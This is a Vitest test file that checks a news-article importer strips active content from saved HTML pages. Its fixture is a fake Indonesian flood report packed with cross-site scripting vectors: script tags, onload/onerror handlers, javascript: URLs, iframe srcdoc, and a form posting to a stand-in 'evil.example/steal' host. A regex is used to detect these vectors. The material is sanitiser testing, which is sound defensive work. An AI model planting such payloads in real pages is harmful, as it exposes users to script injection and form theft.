import { mkdtemp, readdir, readFile } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { openCore } from '../../src/main/core/core'
import { extractHtmlPage } from '../../src/main/core/import/html'
import { value } from '../support/core'

const ARTICLE = (n: number): string[] => [
  `Hujan deras sejak Senin malam ke-${n} membuat Kali Krukut meluap dan merendam permukiman di Kemang.`,
  'Petugas pemadam kebakaran mengerahkan pompa air untuk menyedot genangan dari rumah warga.',
  'Warga berharap tanggul di tepi kali segera diperbaiki sebelum musim hujan mencapai puncaknya.'
]

/** A news page carrying every kind of active content a saved page can hold. */
function hostilePage(n: number): string {
  return `<!doctype html>
<html><head>
<meta charset="utf-8"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<title>Banjir Rendam Kemang ${n} - Kompas.com</title>
<meta property="og:site_name" content="Kompas.com">
<script>alert('head')</script><script src="https://evil.example/x.js"></script>
<script type="application/ld+json">{"@type":"NewsArticle","headline":"Banjir Rendam Kemang ${n}","datePublished":"2024-03-05T08:00:00+07:00","author":{"@type":"Person","name":"Ira Gita"}}</script>
<link rel="stylesheet" href="https://evil.example/s.css"><style>body{background:url(https://evil.example/b.png)}</style>
<base href="https://evil.example/">
<!--[if IE]><script>alert('ie')</script><![endif]-->
</head>
<body onload="alert('body')" background="https://evil.example/bg.png">
<form action="https://evil.example/steal" method="post"><input name="q" onfocus="alert(1)"><button formaction="javascript:alert(1)">Cari</button>
<article itemprop="articleBody" style="background-image:url('https://evil.example/i.png')">
<h1 onclick="alert(1)">Banjir Rendam Kemang ${n}</h1>
<p onmouseover="alert(1)">${ARTICLE(n)[0]}</p>
<img src="https://evil.example/p.png" srcset="https://evil.example/p2.png 2x" onerror="alert(1)" alt="Foto">
<p><a href="javascript:alert(1)" data-go="javascript:void(0)">${ARTICLE(n)[1]}</a></p>
<iframe src="https://evil.example/frame" srcdoc="<script>alert(1)</script>"></iframe>
<object data="https://evil.example/x.swf"><embed src="https://evil.example/x.swf"></object>
<video poster="https://evil.example/v.png" src="https://evil.example/v.mp4"></video>
<svg onload="alert(1)"><script>alert('svg')</script></svg>
<p title="<script>alert(1)</script>">${ARTICLE(n)[2]}</p>
<p>Baca juga: Banjir Kemang Surut Pagi Ini</p>
<table background="https://evil.example/t.png"><tr><td>&nbsp;</td></tr></table>
</article></form>
<noscript><iframe src="https://evil.example/ns"></iframe></noscript>
<template><script>alert('tpl')</script></template>
</body></html>`
}

/** Every file under `dir`, recursively. */
async function filesUnder(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true })
  return entries.filter((e) => e.isFile()).map((e) => path.join(e.parentPath, e.name))
}

const ACTIVE =
  /<script|<iframe|<object|<embed|<form|<svg|<base|<link rel="stylesheet|<style|<meta http-equiv|\son[a-z]+\s*=|javascript:|srcset=|poster=|background=|url\(|evil\.example/i

describe('the stored source of an imported page', () => {
  it('holds nothing active, in any file of the data dir, after hostile pages are imported', async () => {
    const dataDir = await mkdtemp(path.join(os.tmpdir(), 'sorot-hostile-'))
    const core = await openCore({ dataDir, version: 'test' })
    const items = [1, 2, 3].map((n) => ({
      name: `banjir-${n}.html`,
      base64: Buffer.from(hostilePage(n)).toString('base64')
    }))
    // Pasted markup without a name is read as a page too.
    const pasted = { text: hostilePage(4) }
    const outcomes = await value<Array<{ status: string; id: string }>>(core, 'articles.import', {
      items: [...items, pasted]
    })
    expect(outcomes.map((o) => o.status)).toEqual(['imported', 'imported', 'imported', 'imported'])
    const detail = await value<{ text: string; author: string | null }>(core, 'articles.get', {
      id: outcomes[0].id
    })
    expect(detail.text).toBe(ARTICLE(1).join('\n\n'))
    expect(detail.author).toBe('Ira Gita')
    await core.close()

    const files = await filesUnder(dataDir)
    expect(files.some((f) => f.includes(`${path.sep}articles${path.sep}`))).toBe(true)
    for (const file of files) {
      const text = (await readFile(file)).toString('latin1')
      expect(text.match(ACTIVE)?.[0], path.relative(dataDir, file)).toBeUndefined()
    }
  })

  it('gives the same article again when it is extracted from what was stored', async () => {
    const dataDir = await mkdtemp(path.join(os.tmpdir(), 'sorot-hostile-'))
    const core = await openCore({ dataDir, version: 'test' })
    const [{ id }] = await value<Array<{ id: string }>>(core, 'articles.import', {
      items: [{ name: 'banjir.html', base64: Buffer.from(hostilePage(1)).toString('base64') }]
    })
    await core.close()
    const file = JSON.parse(await readFile(path.join(dataDir, 'articles', `${id}.json`), 'utf8'))
    const stored = file.versions[0].source.text as string
    const reference = new Date(2024, 5, 1)
    const original = extractHtmlPage(hostilePage(1), 'banjir.html', { reference }).draft
    const { draft: fromStored, stored: again } = extractHtmlPage(stored, 'banjir.html', {
      reference
    })
    expect(fromStored).toEqual(original)
    expect(original.removed.map((r) => r.text)).toContain('Baca juga: Banjir Kemang Surut Pagi Ini')
    // Stable: the stored page sanitised again is the stored page (up to blank lines).
    const squeezed = (html?: string): string | undefined => html?.replace(/\s+/g, ' ')
    expect(squeezed(again)).toBe(squeezed(stored))
  })

  it('restores a removed line by re-extracting the stored page', async () => {
    const dataDir = await mkdtemp(path.join(os.tmpdir(), 'sorot-hostile-'))
    const core = await openCore({ dataDir, version: 'test' })
    const [{ id }] = await value<Array<{ id: string }>>(core, 'articles.import', {
      items: [{ name: 'banjir.html', base64: Buffer.from(hostilePage(1)).toString('base64') }]
    })
    const detail = await value<{ removed: Array<{ text: string }> }>(core, 'articles.get', { id })
    const index = detail.removed.findIndex((r) => r.text.startsWith('Baca juga'))
    const restored = await value<{ text: string }>(core, 'articles.restoreRemoval', {
      id,
      removal: index
    })
    expect(restored.text).toBe(
      [...ARTICLE(1), 'Baca juga: Banjir Kemang Surut Pagi Ini'].join('\n\n')
    )
    await core.close()
  })
})
